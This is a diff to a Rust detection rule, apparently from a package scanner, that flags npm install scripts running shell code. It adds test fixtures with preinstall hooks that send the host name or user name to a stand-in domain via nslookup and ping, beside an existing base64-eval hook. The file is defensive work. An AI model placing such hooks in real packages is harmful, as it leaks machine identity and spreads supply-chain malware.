@@ -135,7 +135,7 @@ pub const NPM_SCRIPT_SHELL: Rule = derived(
     F,
     Severity::High,
     Confidence::Medium,
-    "An npm install script fetches, decodes or runs inline/shell code",
+    "An npm install script fetches, decodes or runs inline/shell code, or puts the host/user name in a command",
     "curl|sh, `node -e`, base64 or eval in an install hook is how npm malware starts.",
     &[
         fires(
@@ -146,9 +146,21 @@ pub const NPM_SCRIPT_SHELL: Rule = derived(
             "package/package.json",
             r#"{"name":"x","scripts":{"postinstall":"node -e \"eval(Buffer.from('YQ==','base64').toString())\""}}"#,
         ),
+        fires(
+            "package/package.json",
+            r#"{"name":"x","scripts":{"preinstall":"nslookup `hostname`.x.example"}}"#,
+        ),
+        fires(
+            "package/package.json",
+            r#"{"name":"x","scripts":{"preinstall":"ping -c1 $(whoami).x.example"}}"#,
+        ),
         quiet(
             "package/package.json",
             r#"{"name":"x","scripts":{"postinstall":"node install.js"}}"#,
+        ),
+        quiet(
+            "package/package.json",
+            r#"{"name":"x","scripts":{"install":"node scripts/build.js --host=localhost"}}"#,
         ),
     ],
 )
